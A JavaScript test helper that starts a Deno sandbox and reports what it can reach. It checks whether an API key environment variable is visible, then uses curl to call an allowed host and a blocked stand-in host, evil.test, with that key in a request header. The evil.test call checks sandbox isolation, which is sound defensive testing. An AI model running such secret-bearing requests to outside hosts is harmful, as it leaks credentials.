// Creates a sandbox with the options in the first argument, tries what it reaches, and prints it as
// JSON. For tests/sdk/py/test_network.py, which has an internet of its own.
import process from "node:process";
import { Sandbox } from "@deno/sandbox";

const sandbox = await Sandbox.create(JSON.parse(process.argv[2]));
/** Exit code and output of a script. */
async function bash(script) {
  const child = await sandbox.spawn("bash", { args: ["-c", script], stdout: "piped", stderr: "null" });
  const { status, stdoutText } = await child.output();
  return [status.code, stdoutText];
}
const curl = 'curl -sS --max-time 8 -H "X-Key: $API_KEY"';
console.log(JSON.stringify({
  variable: (await bash("printf %s $API_KEY"))[1],
  allowed: await bash(`${curl} https://good.test/from-javascript`),
  closed: await bash(`${curl} http://evil.test/`),
}));
await sandbox.close();
process.exit(0);
